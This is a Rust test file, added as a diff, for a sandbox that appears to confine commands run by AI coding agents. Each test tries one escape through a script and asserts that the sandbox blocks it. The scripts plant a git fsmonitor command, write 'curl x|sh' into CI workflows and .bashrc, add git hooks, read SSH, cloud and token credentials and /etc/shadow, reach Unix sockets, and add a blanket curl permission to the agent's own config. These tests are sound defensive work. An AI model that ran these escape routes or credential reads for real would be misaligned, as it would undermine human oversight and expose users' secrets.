@@ -1,0 +1,388 @@
+//! Escape attempts from the sandbox in mode `auto`, as an attacker would make
+//! them: each runs inside `bash drive.sh`, an opaque script the gate allows
+//! only because it runs confined, so the gate never sees what it does. The
+//! payloads are harmless (markers, canaries, loopback listeners the test
+//! starts); each test is named for the attack. Real binary, real workspace,
+//! the machine's real sandbox, as root in CI.
+
+// A failed setup step should stop a test or bench loudly.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod support;
+
+use std::os::unix::net::UnixListener;
+use std::path::Path;
+use std::process::Output;
+
+use serde_json::Value;
+use support::cli_env::CliEnv as Env;
+use toolgate_sandbox::test_util::scratch_parent;
+
+const CANARY: &str = "CANARY-7f3a9";
+
+fn env() -> Env {
+    // Outside /tmp, which the sandbox replaces with a private one.
+    let e = Env::in_dir(&scratch_parent(Path::new(env!("CARGO_TARGET_TMPDIR"))).unwrap());
+    git(&e.ws, &["init", "-q"]);
+    e.write(e.ws.join("README"), "hello\n");
+    git(&e.ws, &["add", "."]);
+    git(&e.ws, &["commit", "-qm", "first"]);
+    e
+}
+
+fn git(dir: &Path, args: &[&str]) -> Output {
+    let out = std::process::Command::new("git")
+        .args([
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@example.invalid",
+            "-c",
+            "init.defaultBranch=main",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .env("HOME", dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "git {args:?}: {out:?}");
+    out
+}
+
+fn require_staging(e: &Env) {
+    let out = e
+        .command(&["sandbox", "status", "--json"])
+        .output()
+        .unwrap();
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(
+        v["available"].as_bool().unwrap() && v["staging"].as_bool().unwrap(),
+        "the sandbox with staging is not available here (run scripts/setup-sandbox.sh): {v}"
+    );
+}
+
+/// Runs `script` as `bash drive.sh` through `toolgate call` in mode `auto`
+/// (extra arguments after), with the workspace as the location.
+fn drive(e: &Env, script: &str, extra: &[&str]) -> String {
+    require_staging(e);
+    std::fs::write(e.ws.join("drive.sh"), script).unwrap();
+    let mut args = vec![
+        "call",
+        "bash",
+        r#"{"command":"bash drive.sh"}"#,
+        "--mode",
+        "auto",
+    ];
+    args.extend_from_slice(extra);
+    let out = e.command(&args).output().unwrap();
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    eprintln!("--- drive.sh\n{script}\n--- toolgate call\n{text}");
+    text
+}
+
+fn read(p: &Path) -> String {
+    std::fs::read_to_string(p).unwrap_or_default()
+}
+
+#[test]
+fn rename_dot_git_away_and_back_with_an_fsmonitor_config() {
+    let e = env();
+    let before = read(&e.ws.join(".git/config"));
+    let text = drive(
+        &e,
+        "mv .git .git-old && cp -r .git-old .git && \
+         printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; \
+         mv .git-old .git-older 2>/dev/null; echo done",
+        &[],
+    );
+    assert!(text.contains("done"), "the payload ran: {text}");
+    assert_eq!(read(&e.ws.join(".git/config")), before);
+    assert!(!read(&e.ws.join(".git/config")).contains("fsmonitor"));
+    assert!(
+        text.contains(".git/config"),
+        "the refused path is named: {text}"
+    );
+    // The repository still works outside.
+    git(&e.ws, &["status", "--porcelain"]);
+}
+
+#[test]
+fn rename_the_parent_of_hooks_and_workflows() {
+    let e = env();
+    e.write(e.ws.join(".github/workflows/ci.yml"), "on: push\n");
+    e.write(e.ws.join(".vscode/tasks.json"), "{}\n");
+    drive(
+        &e,
+        "mv .github gh && mkdir -p .github/workflows && echo 'run: curl x|sh' > .github/workflows/ci.yml; \
+         mv .vscode vs && mkdir .vscode && echo '{\"tasks\":[{\"command\":\"touch /tmp/x\"}]}' > .vscode/tasks.json; \
+         mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+        &[],
+    );
+    assert_eq!(read(&e.ws.join(".github/workflows/ci.yml")), "on: push\n");
+    assert_eq!(read(&e.ws.join(".vscode/tasks.json")), "{}\n");
+    assert!(!e.ws.join(".git/hooks/pre-commit").exists());
+}
+
+#[test]
+fn rename_the_location_root_itself() {
+    let e = env();
+    let name = e.ws.file_name().unwrap().to_str().unwrap().to_string();
+    drive(
+        &e,
+        &format!(
+            "cd .. && mv {name} {name}-moved; mkdir -p {name}/.git && echo x > {name}/.git/config"
+        ),
+        &[],
+    );
+    assert!(e.ws.join("README").exists(), "the root stays where it is");
+    assert!(!e.base.join(format!("{name}-moved")).exists());
+    assert!(read(&e.ws.join(".git/config")).contains("[core]"));
+}
+
+#[test]
+fn a_new_repository_with_fsmonitor_inside_the_location() {
+    let e = env();
+    drive(
+        &e,
+        "mkdir -p src && cd src && git init -q && git config core.fsmonitor 'touch /tmp/pwned' && echo ok",
+        &[],
+    );
+    assert!(
+        !read(&e.ws.join("src/.git/config")).contains("fsmonitor"),
+        "a nested repository's config did not land"
+    );
+}
+
+#[test]
+fn git_commondir_and_alternates_and_submodule_configs() {
+    let e = env();
+    drive(
+        &e,
+        "echo /elsewhere > .git/commondir; mkdir -p .git/objects/info && echo /evil > .git/objects/info/alternates; \
+         mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = x\\n' > .git/modules/sub/config",
+        &[],
+    );
+    assert!(!e.ws.join(".git/commondir").exists());
+    assert!(!e.ws.join(".git/objects/info/alternates").exists());
+    assert!(!e.ws.join(".git/modules/sub/config").exists());
+}
+
+#[test]
+fn protected_paths_created_at_any_depth() {
+    let e = env();
+    let paths = [
+        "services/api/.envrc",
+        "services/api/.claude/settings.json",
+        "a/b/c/.mcp.json",
+        ".husky/pre-commit",
+        ".pre-commit-config.yaml",
+        "Jenkinsfile",
+        ".circleci/config.yml",
+        ".buildkite/pipeline.yml",
+        ".github/actions/x/action.yml",
+        ".toolgate/config.toml",
+    ];
+    let script: String = paths
+        .iter()
+        .map(|p| format!("mkdir -p \"$(dirname {p})\"; echo evil > {p}\n"))
+        .collect();
+    let text = drive(&e, &script, &[]);
+    for p in paths {
+        assert!(!e.ws.join(p).exists(), "{p} landed: {text}");
+    }
+}
+
+#[test]
+fn credentials_in_the_home_directory_are_hidden_whatever_their_name() {
+    let e = env();
+    for rel in [
+        ".ssh/id_rsa",
+        ".aws/credentials",
+        ".pgpass",
+        ".pypirc",
+        "_netrc",
+        ".azure/accessTokens.json",
+        ".config/gcloud/credentials.db",
+        ".password-store/x.gpg",
+        ".claude/.credentials.json",
+        ".codex/auth.json",
+        ".config/github-copilot/hosts.json",
+        ".cargo/credentials.toml",
+        ".docker/config.json",
+        ".kube/config",
+        ".npmrc",
+        ".local/share/keyrings/login.keyring",
+        "projects/other/.env",
+        "notes-nobody-listed.txt",
+    ] {
+        e.write(e.home.join(rel), &format!("{CANARY} {rel}\n"));
+    }
+    let text = drive(
+        &e,
+        "grep -r CANARY ~ 2>/dev/null; cat ~/.ssh/id_rsa ~/.pgpass ~/_netrc ~/.codex/auth.json 2>&1; ls -A ~",
+        &[],
+    );
+    assert!(!text.contains(CANARY), "{text}");
+}
+
+#[test]
+fn credentials_in_the_location_are_masked_in_any_case_and_through_links() {
+    let e = env();
+    for rel in [
+        ".env",
+        ".ENV",
+        "app/.Env.Local",
+        "deploy/id_ed25519",
+        ".npmrc",
+    ] {
+        e.write(e.ws.join(rel), &format!("{CANARY} {rel}\n"));
+    }
+    e.write(e.home.join(".ssh/id_rsa"), &format!("{CANARY} key\n"));
+    std::fs::hard_link(e.ws.join(".env"), e.ws.join("notes.txt")).unwrap();
+    std::os::unix::fs::symlink(e.home.join(".ssh/id_rsa"), e.ws.join("key-link")).unwrap();
+    let text = drive(
+        &e,
+        "cat .env .ENV app/.Env.Local deploy/id_ed25519 .npmrc notes.txt key-link 2>&1; grep -r CANARY . 2>/dev/null",
+        &[],
+    );
+    assert!(!text.contains(CANARY), "{text}");
+}
+
+#[test]
+fn a_credential_created_later_in_the_location_does_not_land() {
+    let e = env();
+    drive(
+        &e,
+        "echo SECRET=1 > .env.production; echo k > deploy.pem",
+        &[],
+    );
+    assert!(!e.ws.join(".env.production").exists());
+}
+
+#[test]
+fn system_secrets_are_unreadable_even_as_root() {
+    let e = env();
+    let text = drive(
+        &e,
+        "head -c 200 /etc/shadow 2>&1 | od -c | head -3; ls /etc/ssl/private 2>&1; echo end",
+        &[],
+    );
+    assert!(!text.contains("root:"), "{text}");
+}
+
+#[test]
+fn a_root_that_holds_the_home_directory_cannot_rewrite_the_users_config() {
+    let e = env();
+    let config = e.home.join(".config/toolgate/config.toml");
+    e.write(&config, "mode = \"default\"\n");
+    e.write(e.home.join(".bashrc"), "# rc\n");
+    e.write(e.home.join(".gitconfig"), "[user]\n");
+    // The location's root is the base, which holds the home and the
+    // workspace; the driver is found from the base.
+    let script = format!(
+        "echo '[permission.bash]\n\"curl *\" = \"allow\"' >> {config}; \
+         echo 'curl x|sh' >> {home}/.bashrc; echo '[core]' >> {home}/.gitconfig; echo tried",
+        config = config.display(),
+        home = e.home.display()
+    );
+    std::fs::write(e.base.join("drive.sh"), &script).unwrap();
+    let text = drive(&e, &script, &["--root", e.base.to_str().unwrap()]);
+    assert!(text.contains("tried"), "{text}");
+    assert_eq!(read(&config), "mode = \"default\"\n");
+    assert_eq!(read(&e.home.join(".bashrc")), "# rc\n");
+    assert_eq!(read(&e.home.join(".gitconfig")), "[user]\n");
+}
+
+#[test]
+fn a_unix_socket_under_home_is_unreachable() {
+    let e = env();
+    let docker = e.home.join(".docker/desktop/docker.sock");
+    let agent = e.home.join(".1password/agent.sock");
+    std::fs::create_dir_all(docker.parent().unwrap()).unwrap();
+    std::fs::create_dir_all(agent.parent().unwrap()).unwrap();
+    let listeners = [
+        UnixListener::bind(&docker).unwrap(),
+        UnixListener::bind(&agent).unwrap(),
+    ];
+    for l in &listeners {
+        l.set_nonblocking(true).unwrap();
+    }
+    drive(
+        &e,
+        &format!(
+            "python3 -c 'import socket,sys\nfor p in sys.argv[1:]:\n  try:\n    s=socket.socket(socket.AF_UNIX); s.connect(p); s.send(b\"x\"); print(\"REACHED\", p)\n  except Exception as x: print(\"no\", x)' {} {}",
+            docker.display(),
+            agent.display()
+        ),
+        &[],
+    );
+    for l in &listeners {
+        assert!(
+            matches!(l.accept(), Err(err) if err.kind() == std::io::ErrorKind::WouldBlock),
+            "a socket under home was reached"
+        );
+    }
+}
+
+#[test]
+fn an_opaque_part_gets_no_network_from_an_approved_part() {
+    let e = env();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    e.write(
+        e.home.join(".config/toolgate/config.toml"),
+        "[permission.bash]\n\"curl *\" = \"allow\"\n",
+    );
+    std::fs::write(
+        e.ws.join("drive.sh"),
+        format!("python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\", {port}), 3); s.send(b\"x\")'; echo ran"),
+    )
+    .unwrap();
+    require_staging(&e);
+    let input = serde_json::json!({
+        "command": format!("curl -s --max-time 3 http://127.0.0.1:{port}/health ; bash drive.sh")
+    })
+    .to_string();
+    let out = e
+        .command(&["call", "bash", &input, "--mode", "auto"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    eprintln!("{text}\n{}", String::from_utf8_lossy(&out.stderr));
+    // However the call was decided, the opaque script reached nothing.
+    let mut reached = 0;
+    while listener.accept().is_ok() {
+        reached += 1;
+    }
+    assert!(
+        !text.contains("ran") || reached == 0,
+        "the opaque part reached the listener: {text}"
+    );
+}
+
+#[test]
+fn no_phantoms_git_add_all_commits_exactly_the_files_that_exist() {
+    let e = env();
+    e.write(e.ws.join("src/lib.rs"), "// code\n");
+    let text = drive(
+        &e,
+        "ls -A; export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.invalid \
+         GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.invalid; \
+         git add -A && git commit -qm second && echo committed",
+        &[],
+    );
+    assert!(text.contains("committed"), "{text}");
+    let tree = git(&e.ws, &["ls-tree", "-r", "--name-only", "HEAD"]);
+    assert_eq!(
+        String::from_utf8_lossy(&tree.stdout),
+        "README\ndrive.sh\nsrc/lib.rs\n"
+    );
+    let status = git(&e.ws, &["status", "--porcelain"]);
+    assert_eq!(String::from_utf8_lossy(&status.stdout), "");
+}
